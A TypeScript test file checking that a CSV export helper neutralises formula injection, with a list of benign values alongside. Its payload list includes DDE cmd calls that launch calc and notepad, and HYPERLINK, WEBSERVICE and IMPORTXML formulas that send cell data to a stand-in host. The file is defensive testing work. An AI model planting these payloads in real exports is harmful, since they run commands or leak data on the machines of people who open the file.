/**
 * CSV formula neutralisation (csv.ts) on OWASP's CSV Injection list (cells
 * led by = + - @ tab CR), NUL (ASVS 1.2.10), leading whitespace and control
 * characters before them, and full-width forms; read back by the test's
 * own RFC 4180 reader, never by the writer's code.
 */
import { describe, expect, it } from 'vitest';
import { parseCsv } from '../../../test/support/exportReaders';
import { csvField } from './csv';

/** One field written and read back as a one-cell CSV record. */
const roundTrip = (value: string): string => parseCsv(`${csvField(value)}\r\n`)[0]![0]!;

/** The payloads: OWASP's leading characters with the classic attacks after them. */
const ATTACKS = [
  '=1+1', '+1+1', '-1+1', '@SUM(1+1)*cmd|\' /C calc\'!A0',
  '=HYPERLINK("http://example.invalid/?leak="&A1,"click")', '=cmd|\' /C notepad\'!\'A1\'', '=WEBSERVICE("http://example.invalid")', '+IMPORTXML(CONCAT("http://example.invalid/",A1),"//a")',
  '-2+3+cmd|\' /C calc\'!A0', '@SUM(A1:A10)',
  '\t=1+1', '\r=1+1', '\t', '\r', '\0=1+1', '\0',
  // Whitespace and control characters before the formula character.
  ' =1+1', '   +1', '\n=1+1', '\u00a0=1+1', '\u3000=1+1', '\ufeff=1+1', '\u200b@SUM(1)', '\x01-1+1', ' \t @x',
  // Full-width forms some spreadsheets read as their ASCII twins.
  '\uff1d1+1', '\uff0b1', '\uff0d1', '\uff20SUM(1)',
];

const BENIGN = ['', 'level 1', 'a=b', 'x-1', '1-2', 'mail@example.invalid', "'already text", ' leading space', 'tab\tinside', 'rsd-8x8-s1-0'];

describe('CSV formula neutralisation', () => {
  it.each(ATTACKS.map((a) => [JSON.stringify(a), a]))('%s is written as text: a quote in front, the value after it unchanged', (_name, value) => {
    const cell = roundTrip(value);
    expect(cell.startsWith("'")).toBe(true);
    expect(cell.slice(1)).toBe(value);
  });

  it.each(BENIGN.map((b) => [JSON.stringify(b), b]))('%s reads back as written, with nothing added', (_name, value) => {
    expect(roundTrip(value)).toBe(value);
  });
});
